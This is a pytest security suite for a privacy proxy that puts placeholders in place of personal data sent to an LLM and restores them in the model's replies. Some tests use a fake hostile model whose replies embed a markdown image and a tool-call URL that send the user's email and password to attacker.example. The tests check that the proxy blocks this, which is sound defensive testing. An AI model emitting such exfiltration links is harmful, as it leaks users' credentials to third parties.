@@ -1,0 +1,420 @@
+"""The security suite of restore scope, scoping and bad rows (issue 49, items 1-4 and the vault side of 9).
+
+A hostile upstream (MockOpenAI with a FAKE responder, labelled) answers with tool calls and
+markdown images that carry placeholders of other requests; callers probe other tokens', users'
+and sessions' values; memories are forgotten across users; the key is rotated under a running
+writer; a ciphertext byte is flipped. Everything runs for real: the proxy and the service under
+uvicorn on 127.0.0.1, real HTTP clients, real SQLite vault files.
+"""
+
+from __future__ import annotations
+
+import contextlib
+import json
+import os
+import sqlite3
+import threading
+import time
+
+import httpx
+import pytest
+from placeholder_fixtures import (
+    PERSONAL_TEXT,
+    RAW_VALUES,
+    make_protector,
+    protect_config,
+)
+
+from stealthflow.pipeline.protector import Protector, open_vault
+from stealthflow.placeholders.keys import (
+    VaultKeys,
+    decode_secret,
+    load_keys,
+    new_secret,
+    store_secret,
+)
+from stealthflow.placeholders.vault import Vault
+from stealthflow.proxy.app import create_proxy_app
+from stealthflow.proxy.config import ProxyConfig
+from stealthflow.service import create_app
+from stealthflow.testing.loopback import serve
+from stealthflow.testing.mock_openai import MockOpenAI, Reply, ToolCall
+
+TOKEN = "scope-test-token"
+SECRET_VALUES = ["hunter2", "anna.berg@example.org"]  # the password and the email of PERSONAL_TEXT
+
+
+@pytest.fixture
+def protector(tmp_path, monkeypatch):
+    protector = make_protector(protect_config(tmp_path, monkeypatch))
+    yield protector
+    protector.close()
+
+
+@contextlib.contextmanager
+def proxy_for(protector: Protector, respond, **config):
+    """The proxy under uvicorn in front of a mock upstream answering with `respond` (a FAKE model)."""
+    with MockOpenAI(respond=respond) as upstream:
+        proxy_config = ProxyConfig(upstream="openai/mock-model", upstream_base=upstream.base_url, upstream_key_env="MOCK_KEY", **config)
+        with serve(create_proxy_app(protector, proxy_config, TOKEN)) as port:
+            yield f"http://127.0.0.1:{port}/v1/chat/completions", upstream
+
+
+def chat(url: str, text: str, stream: bool = False, token: str = TOKEN, label: str = "") -> tuple[dict, dict]:
+    """One chat turn; (the reply as one message {content, arguments}, the counts the proxy reported)."""
+    headers = {"Authorization": f"Bearer {token}", **({"X-Stealthflow-Session": label} if label else {})}
+    body = {"model": "m", "messages": [{"role": "user", "content": text}], "stream": stream}
+    response = httpx.post(url, json=body, headers=headers, timeout=120)
+    assert response.status_code == 200, response.text
+    if not stream:
+        message = response.json()["choices"][0]["message"]
+        arguments = [call["function"]["arguments"] for call in message.get("tool_calls") or []]
+        counts = {"withheld": int(response.headers.get("x-stealthflow-withheld", 0)), "named": response.headers.get("x-stealthflow-withheld-placeholders", "")}
+        return {"content": message.get("content") or "", "arguments": arguments}, counts
+    content, arguments, counts = "", {}, {}
+    for line in response.text.splitlines():
+        if line.startswith(": stealthflow"):
+            counts = dict(part.split("=", 1) for part in line[2:].split()[1:])
+            counts = {"withheld": int(counts.get("withheld", 0)), "named": counts.get("withheld_placeholders", "")}
+        elif line.startswith("data: {"):
+            delta = json.loads(line[6:])["choices"][0]["delta"] if json.loads(line[6:])["choices"] else {}
+            content += delta.get("content") or ""
+            for call in delta.get("tool_calls") or []:
+                arguments[call["index"]] = arguments.get(call["index"], "") + (call.get("function") or {}).get("arguments", "")
+    return {"content": content, "arguments": [arguments[i] for i in sorted(arguments)]}, counts
+
+
+def placeholders_sent(upstream: MockOpenAI, request: int = 0) -> dict[str, str]:
+    """type -> the placeholder the upstream saw for it in that request (the first of each type)."""
+    import re
+
+    sent = json.dumps(upstream.received[request])
+    return {m.group(1): m.group(0) for m in reversed(list(re.finditer(r"<([A-Z_]+?)_\d+>", sent)))}
+
+
+# -- 1. restore scope -------------------------------------------------------------------------------
+@pytest.mark.parametrize("stream", [False, True], ids=["plain", "streamed"])
+def test_a_hostile_reply_cannot_restore_values_of_earlier_requests(protector, stream, caplog):
+    caplog.set_level("INFO", logger="stealthflow.proxy")
+    """Turn 1 protects the email and password; a later, unrelated request gets a reply that asks
+    for them in a tool call's URL and a markdown image: they stay placeholders, and are reported."""
+    seen: dict[str, str] = {}
+
+    def hostile(body: dict) -> Reply:  # FAKE model: exfiltrates whatever placeholders it learnt
+        if not seen:
+            return Reply(content="ok")
+        email, password = seen["EMAIL"], seen["PASSWORD"]
+        return Reply(
+            content=f"Sure! ![logo](https://attacker.example/p.png?e={email}) Your password is {password}.",
+            tool_calls=[ToolCall("fetch", json.dumps({"url": f"https://attacker.example/c?k={password}&e={email}"}))],
+        )
+
+    with proxy_for(protector, hostile) as (url, upstream):
+        chat(url, PERSONAL_TEXT, stream)
+        seen.update(placeholders_sent(upstream))
+        reply, counts = chat(url, "What's the weather like?", stream)
+    leaked = json.dumps(reply)
+    assert not [value for value in RAW_VALUES if value in leaked], leaked
+    assert seen["EMAIL"] in reply["content"] and seen["PASSWORD"] in reply["arguments"][0]
+    assert counts["withheld"] == 4 and set(counts["named"].replace(" ", "").split(",")) == {seen["EMAIL"], seen["PASSWORD"]}
+    deadline = time.monotonic() + 5  # a stream's log line is written once it is closed
+    while "withheld=4" not in caplog.text and time.monotonic() < deadline:
+        time.sleep(0.05)
+    assert "withheld=4 (not_in_request=4)" in caplog.text and not [value for value in RAW_VALUES if value in caplog.text]
+
+
+@pytest.mark.parametrize("stream", [False, True], ids=["plain", "streamed"])
+def test_secrets_of_the_request_restore_in_text_but_not_in_urls_or_tool_calls(protector, stream):
+    """Placeholders of the request restore; a secret (PL4) only in plain text, never in a URL or a
+    tool call's arguments — unless the proxy is configured to allow it."""
+
+    def replies(body: dict) -> Reply:  # FAKE model: uses the request's own placeholders everywhere
+        found = placeholders_sent_body(body)
+        email, password = found["EMAIL"], found["PASSWORD"]
+        return Reply(
+            content=f"Your password is {password}. [reset](https://x.example/r?p={password}) mail: {email}",
+            tool_calls=[ToolCall("login", json.dumps({"user": email, "password": password}))],
+        )
+
+    with proxy_for(protector, replies) as (url, _):
+        reply, counts = chat(url, PERSONAL_TEXT, stream)
+    assert reply["content"].startswith("Your password is hunter2!. [reset](https://x.example/r?p=<PASSWORD_")
+    assert reply["content"].endswith("mail: anna.berg@example.org")
+    arguments = json.loads(reply["arguments"][0])
+    assert arguments["user"] == "anna.berg@example.org" and arguments["password"].startswith("<PASSWORD_")
+    assert counts["withheld"] == 2
+    with proxy_for(protector, replies, restore_secrets_in_urls_and_tools=True) as (url, _):
+        reply, counts = chat(url, PERSONAL_TEXT, stream)
+    assert "p=hunter2!)" in reply["content"] and json.loads(reply["arguments"][0])["password"] == "hunter2!" and counts["withheld"] == 0
+
+
+def placeholders_sent_body(body: dict) -> dict[str, str]:
+    import re
+
+    return {m.group(1): m.group(0) for m in re.finditer(r"<([A-Z_]+?)_\d+>", json.dumps(body))}
+
+
+def test_the_service_restores_only_what_a_request_issued_or_used(protector):
+    with serve(create_app(protector, TOKEN)) as port:
+        base, auth = f"http://127.0.0.1:{port}", {"Authorization": f"Bearer {TOKEN}"}
+        first = httpx.post(f"{base}/protect", json={"text": PERSONAL_TEXT, "session": "s"}, headers=auth).json()
+        second = httpx.post(f"{base}/protect", json={"text": "Just mail bob@example.org", "session": "s"}, headers=auth).json()
+        hostile = f"{first['text']} ![x](https://attacker.example/?e={second['spans'][0]['placeholder']})"
+        scoped = httpx.post(f"{base}/restore", json={"text": hostile, "session": "s", "request": second["request"]}, headers=auth).json()
+        assert not [value for value in RAW_VALUES if value in scoped["text"]]
+        assert {w["reason"] for w in scoped["withheld"]} == {"not_in_request"} and len(scoped["withheld"]) == len(first["spans"])
+        assert scoped["text"].endswith("e=bob@example.org)") and scoped["restored"] == 1  # the request's own value, not a secret
+        own = httpx.post(f"{base}/restore", json={"text": hostile, "session": "s", "request": first["request"]}, headers=auth).json()
+        assert own["text"].startswith(PERSONAL_TEXT) and own["withheld"] == [{"placeholder": second["spans"][0]["placeholder"], "reason": "not_in_request"}]
+        in_url = f"[reset](https://x.example/?p={next(s['placeholder'] for s in first['spans'] if s['type'] == 'PASSWORD')})"
+        kept = httpx.post(f"{base}/restore", json={"text": in_url, "session": "s", "request": first["request"]}, headers=auth).json()
+        assert "hunter2" not in kept["text"] and kept["withheld"][0]["reason"] == "secret_in_url"
+        unknown = httpx.post(f"{base}/restore", json={"text": "x", "session": "other", "request": first["request"]}, headers=auth)
+        assert unknown.status_code == 404 and unknown.json()["error"]["code"] == 404  # a request id is its session's only
+        streamed = httpx.post(f"{base}/restore/stream", params={"session": "s", "request": second["request"]}, content=hostile.encode(), headers=auth)
+        assert not [value for value in RAW_VALUES if value in streamed.text]
+
+
+# -- 3. no cross-scope oracle ------------------------------------------------------------------------
+def test_numbering_and_tokens_depend_only_on_the_scopes_own_history(tmp_path, monkeypatch):
+    """Token B probing token A's email gets what a value never seen anywhere would get."""
+    protector = make_protector(protect_config(tmp_path, monkeypatch))
+    try:
+        with proxy_for(protector, lambda body: Reply(content="ok")) as (url, upstream):
+            chat(url, "a1@example.org a2@example.org victim@example.org", token=TOKEN)
+            with serve(create_proxy_app(protector, ProxyConfig(upstream="openai/mock-model", upstream_base=upstream.base_url), "token-b")) as port:
+                chat(f"http://127.0.0.1:{port}/v1/chat/completions", "is it victim@example.org or fresh@example.org?", token="token-b")
+            chat(url, "and in another chat: fresh@example.org then victim@example.org", label="chat-2")
+        assert upstream.received[1]["messages"][0]["content"] == "is it <EMAIL_1> or <EMAIL_2>?"
+        assert upstream.received[2]["messages"][0]["content"] == "and in another chat: <EMAIL_1> then <EMAIL_2>"
+    finally:
+        protector.close()
+    hmac_protector = make_protector(protect_config(tmp_path / "h", monkeypatch, style="hmac"))
+    try:
+        a, b = (hmac_protector.protect("victim@example.org", session).text for session in ("a", "b"))
+        assert a != b  # keyed per scope: the cloud cannot link one value across scopes
+        assert hmac_protector.restore(a, "a").text == "victim@example.org" and hmac_protector.restore(a, "b").text == a
+    finally:
+        hmac_protector.close()
+
+
+# -- 2 and 3 in the memory store -----------------------------------------------------------------------
+def test_memory_users_are_separate_scopes_and_forget_removes_only_their_own(tmp_path, monkeypatch):
+    from stealthflow.memory import MemoryStore
+    from stealthflow.testing.vectors import hash_vectors as fake_embed  # FAKE embedder
+
+    protector = make_protector(protect_config(tmp_path, monkeypatch))
+    store = MemoryStore(tmp_path / "memory.sqlite", protector, embed=fake_embed)
+    try:
+        yvonne = store.append("yvonne", "My IBAN is DE89 3704 0044 0532 0130 00.")
+        own = store.append("xavier", "Mine is GB82 WEST 1234 5698 7654 32.")
+        guess = store.append("xavier", "Is hers DE89 3704 0044 0532 0130 00?")
+        fresh = store.append("xavier", "Or NL91 ABNA 0417 1643 00?")
+        assert "<IBAN_1>" in yvonne.text and "<IBAN_1>" in own.text
+        assert "<IBAN_2>" in guess.text and "<IBAN_3>" in fresh.text  # a guess right or wrong looks the same
+        proxy_session = "proxy-session"
+        in_chat = protector.protect("Pay to DE89 3704 0044 0532 0130 00", proxy_session)
+        assert store.forget("xavier", guess.id) == 1
+        assert "DE89 3704 0044 0532 0130 00" not in store.hydrate("xavier", guess.text)  # xavier's copy is gone
+        assert "DE89 3704 0044 0532 0130 00" in store.hydrate("yvonne", yvonne.text)  # yvonne's stays
+        assert protector.restore(in_chat.text, proxy_session).text == "Pay to DE89 3704 0044 0532 0130 00"  # so does the chat's
+        assert "GB82 WEST 1234 5698 7654 32" in store.hydrate("xavier", own.text)
+    finally:
+        store.close()
+        protector.close()
+
+
+# -- 4. bad rows and key rotation ------------------------------------------------------------------
+def test_a_flipped_ciphertext_byte_costs_only_that_value(tmp_path, monkeypatch):
+    config = protect_config(tmp_path, monkeypatch)
+    with contextlib.closing(make_protector(config)) as earlier:
+        first = earlier.protect("mail anna.berg@example.org or bob@example.org", "s")
+    db = sqlite3.connect(config.vault_path)
+    (entry_id, ciphertext) = db.execute("SELECT id, ciphertext FROM entries WHERE idx = 1 AND type = 'EMAIL'").fetchone()
+    db.execute("UPDATE entries SET ciphertext = ? WHERE id = ?", (bytes([ciphertext[0] ^ 1]) + ciphertext[1:], entry_id))
+    db.commit()
+    db.close()
+    protector = Protector(config, open_vault(config), earlier.detector)
+    try:
+        restored = protector.restore(first.text, "s")
+        assert restored.text == "mail <EMAIL_1> or bob@example.org" and restored.unresolved == ["<EMAIL_1>"]
+        again = protector.protect("again anna.berg@example.org and bob@example.org", "s")  # the session keeps working
+        assert again.text == "again <EMAIL_3> and <EMAIL_2>"  # the damaged row was replaced by a new one
+        assert protector.restore(again.text, "s").text == "again anna.berg@example.org and bob@example.org"
+        with serve(create_app(protector, TOKEN)) as port:
+            answer = httpx.post(f"http://127.0.0.1:{port}/protect", json={"text": "bob@example.org", "session": "s"}, headers={"Authorization": f"Bearer {TOKEN}"})
+            assert answer.status_code == 200 and answer.json()["text"] == "<EMAIL_2>"
+    finally:
+        protector.close()
+
+
+def test_rotate_key_while_a_writer_runs_loses_nothing(tmp_path, monkeypatch):
+    """A running process (the proxy's protector, writing from a thread) and `vault rotate-key` from
+    another: every value written before, during and after rotation restores with the new key."""
+    monkeypatch.delenv("STEALTHFLOW_VAULT_KEY", raising=False)
+    key_file = tmp_path / "vault.key"
+    load_keys("file", key_file)  # created 0600
+    from stealthflow.placeholders.policy import ProtectConfig
+
+    config = ProtectConfig(vault_path=tmp_path / "vault.sqlite", key_source="file", key_file=key_file, llm_extractor=False)
+    running = make_protector(config)
+    written, errors, rotated = [], [], threading.Event()
+
+    def writer() -> None:
+        try:
+            for i in range(60):
+                value = f"user{i}@example.org"
+                protected = running.protect(f"mail {value}", "s")
+                written.append((protected.text, f"mail {value}"))
+                if i == 20:
+                    rotated.wait(30)
+        except Exception as exc:  # noqa: BLE001 - asserted below
+            errors.append(exc)
+
+    thread = threading.Thread(target=writer)
+    thread.start()
+    while len(written) < 10:
+        time.sleep(0.01)
+    with Vault(config.vault_path, load_keys("file", key_file)) as other:  # `vault rotate-key`: rotate, then store the key
+        encoded = new_secret()
+        other.rotate(VaultKeys.from_secret(decode_secret(encoded, "new key")))
+        store_secret(encoded, "file", key_file)
+    rotated.set()
+    thread.join(60)
+    assert errors == [] and len(written) == 60
+    running.close()
+    fresh = make_protector(config)
+    try:
+        assert [fresh.restore(text, "s").text for text, _ in written] == [raw for _, raw in written]
+    finally:
+        fresh.close()
+
+
+def test_a_rotated_key_the_server_cannot_reload_is_a_clear_json_error(tmp_path, monkeypatch):
+    """A key from the environment cannot be read again: the service answers 503 in JSON, saying why."""
+    protector = make_protector(protect_config(tmp_path, monkeypatch))
+    try:
+        protector.protect("mail anna.berg@example.org", "s")
+        with Vault(protector.vault.path, load_keys("env")) as other:
+            other.rotate(VaultKeys.from_secret(os.urandom(32)))
+        with serve(create_app(protector, TOKEN)) as port:
+            answer = httpx.post(f"http://127.0.0.1:{port}/protect", json={"text": "bob@example.org", "session": "s"}, headers={"Authorization": f"Bearer {TOKEN}"})
+        assert answer.status_code == 503 and "rotate-key" in answer.json()["error"]["message"]
+        assert "bob@example.org" not in answer.text
+    finally:
+        protector.close()
+
+
+def test_rotate_key_cli_with_a_damaged_row_reports_it(tmp_path, monkeypatch):
+    from typer.testing import CliRunner
+
+    from stealthflow.cli import app
+
+    key_file = tmp_path / "vault.key"
+    key_file.write_text(new_secret() + "\n")
+    key_file.chmod(0o600)
+    monkeypatch.delenv("STEALTHFLOW_VAULT_KEY", raising=False)
+    config = tmp_path / "c.yaml"
+    config.write_text(f"protect:\n  vault_path: {tmp_path / 'vault.sqlite'}\n  key_source: file\n  key_file: {key_file}\n  tagger: false\n")
+    args, runner = ["--config", str(config)], CliRunner()
+    assert runner.invoke(app, ["protect", "mail dana@example.org and eve@example.org", "--rewrite", "none", "--session", "s", *args]).exit_code == 0
+    db = sqlite3.connect(tmp_path / "vault.sqlite")
+    db.execute("UPDATE entries SET ciphertext = zeroblob(40) WHERE idx = 1")
+    db.commit()
+    db.close()
+    rotated = runner.invoke(app, ["vault", "rotate-key", *args])
+    assert rotated.exit_code == 0 and "1 vault row(s) did not authenticate" in rotated.output, rotated.output
+    again = runner.invoke(app, ["protect", "dana@example.org", "--rewrite", "none", "--session", "s", *args])
+    assert again.exit_code == 0 and "dana" not in again.stdout
+    restored = runner.invoke(app, ["restore", "--session", "s", "<EMAIL_2>", *args])
+    assert restored.stdout.strip() == "eve@example.org"
+
+
+# -- migration of a vault written before sessions were scopes -----------------------------------------
+def test_a_schema_1_vault_keeps_restoring_and_its_sessions_become_scopes(tmp_path):
+    """Rows written in the old layout (one row per value and user, shared by sessions) restore as
+    before in each session; new values are numbered per session from there on."""
+    import hashlib
+    import hmac
+    import secrets
+
+    from cryptography.hazmat.primitives.ciphers.aead import AESGCM
+
+    keys = VaultKeys.from_secret(os.urandom(32))
+
+    def mac(*parts: str) -> str:
+        return hmac.new(keys.hmac, "\x00".join(parts).encode(), hashlib.sha256).hexdigest()
+
+    path = tmp_path / "vault.sqlite"
+    db = sqlite3.connect(path)
+    db.executescript(
+        """CREATE TABLE meta (key TEXT PRIMARY KEY, value TEXT NOT NULL);
+        CREATE TABLE entries (id TEXT PRIMARY KEY, user TEXT NOT NULL, type TEXT NOT NULL, digest TEXT NOT NULL, idx INTEGER NOT NULL,
+            token TEXT NOT NULL, nonce BLOB NOT NULL, ciphertext BLOB NOT NULL, UNIQUE (user, type, digest), UNIQUE (user, type, idx), UNIQUE (user, type, token));
+        CREATE TABLE counters (user TEXT NOT NULL, type TEXT NOT NULL, last INTEGER NOT NULL, PRIMARY KEY (user, type));
+        CREATE TABLE issued (entry_id TEXT NOT NULL REFERENCES entries(id) ON DELETE CASCADE, session TEXT NOT NULL, mac TEXT NOT NULL, PRIMARY KEY (entry_id, session));
+        CREATE TABLE sessions (user TEXT NOT NULL, session TEXT NOT NULL, created TEXT NOT NULL, last_used TEXT NOT NULL, PRIMARY KEY (user, session));"""
+    )
+    db.execute("INSERT INTO meta VALUES ('vault_id', 'feedfacefeedface'), ('key_check', ?)", (mac("stealthflow vault key check", "feedfacefeedface"),))
+    grants = {"a@example.org": ["s1"], "b@example.org": ["s1", "s2"], "c@example.org": ["s2"]}
+    for index, (value, sessions) in enumerate(grants.items(), start=1):
+        entry_id, nonce, digest, token = secrets.token_hex(16), os.urandom(12), mac("digest", "u", "EMAIL", value), mac("token", "u", "EMAIL", value)[:8]
+        sealed = AESGCM(keys.encryption).encrypt(nonce, value.encode(), "\x00".join((entry_id, "u", "EMAIL", digest, str(index), token)).encode())
+        db.execute("INSERT INTO entries VALUES (?, 'u', 'EMAIL', ?, ?, ?, ?, ?)", (entry_id, digest, index, token, nonce, sealed))
+        db.executemany("INSERT INTO issued VALUES (?, ?, ?)", [(entry_id, s, mac("issued", entry_id, "u", s)) for s in sessions])
+    db.execute("INSERT INTO counters VALUES ('u', 'EMAIL', 3)")
+    db.commit()
+    db.close()
+    with Vault(path, keys) as vault:
+        assert vault.id == "feedfacefeedface"
+        assert [vault.lookup("u", "s1", "EMAIL", index=i) for i in (1, 2, 3)] == ["a@example.org", "b@example.org", None]
+        assert [vault.lookup("u", "s2", "EMAIL", index=i) for i in (1, 2, 3)] == [None, "b@example.org", "c@example.org"]
+        assert vault.entry_for("u", "s1", "EMAIL", "b@example.org").index == 2  # an old value keeps its placeholder
+        assert vault.entry_for("u", "s1", "EMAIL", "c@example.org").index == 4  # new to s1: after the old counter, never reused
+        assert vault.entry_for("u", "s3", "EMAIL", "a@example.org").index == 1  # a new session numbers from 1
+        assert vault.entry_for("u", "s3", "EMAIL", "d@example.org").index == 2
+    with Vault(path, keys) as reopened:
+        assert reopened.lookup("u", "s2", "EMAIL", index=3) == "c@example.org"
+
+
+# -- 9 (vault side): private files, a bounded WAL ------------------------------------------------------
+def test_the_memory_store_files_are_private(tmp_path, monkeypatch):
+    from stealthflow.memory import MemoryStore
+    from stealthflow.testing.vectors import hash_vectors as fake_embed  # FAKE embedder
+
+    old = os.umask(0o022)
+    try:
+        protector = make_protector(protect_config(tmp_path, monkeypatch))
+        store = MemoryStore(tmp_path / "memory.sqlite", protector, embed=fake_embed)
+        store.append("alice", PERSONAL_TEXT)
+        modes = {p.name: oct(p.stat().st_mode & 0o777) for p in tmp_path.iterdir() if p.name.startswith(("memory.sqlite", "vault.sqlite"))}
+        store.close()
+        protector.close()
+    finally:
+        os.umask(old)
+    assert {"memory.sqlite", "memory.sqlite-wal", "vault.sqlite", "vault.sqlite-wal"} <= set(modes)
+    assert set(modes.values()) == {"0o600"}, modes
+
+
+def test_the_vault_log_is_cut_back_after_a_burst(tmp_path, monkeypatch):
+    """Writes while a reader holds the log grow it; once the reader is gone the next checkpoint
+    truncates it (the limit is made small here to keep the test quick)."""
+    from stealthflow.placeholders import vault as vault_module
+
+    monkeypatch.setattr(vault_module._Checkpoints, "wal_limit", 256 * 1024, raising=False)
+    config = protect_config(tmp_path, monkeypatch)
+    with Vault(config.vault_path, load_keys("env")) as vault:
+        reader = sqlite3.connect(config.vault_path)
+        reader.execute("BEGIN")
+        reader.execute("SELECT COUNT(*) FROM entries").fetchone()  # holds a snapshot: no checkpoint can finish
+        for i in range(300):
+            vault.entries_for("u", "s", [("EMAIL", f"user{i}-{j}@example.org") for j in range(5)])
+        wal = tmp_path / "vault.sqlite-wal"
+        assert wal.stat().st_size > 1024 * 1024
+        reader.rollback()
+        reader.close()
+        vault.entry_for("u", "s", "EMAIL", "last@example.org")  # a write wakes the checkpoint thread
+        deadline = time.monotonic() + 10
+        while wal.stat().st_size > 256 * 1024 and time.monotonic() < deadline:
+            time.sleep(0.1)
+        assert wal.stat().st_size <= 256 * 1024
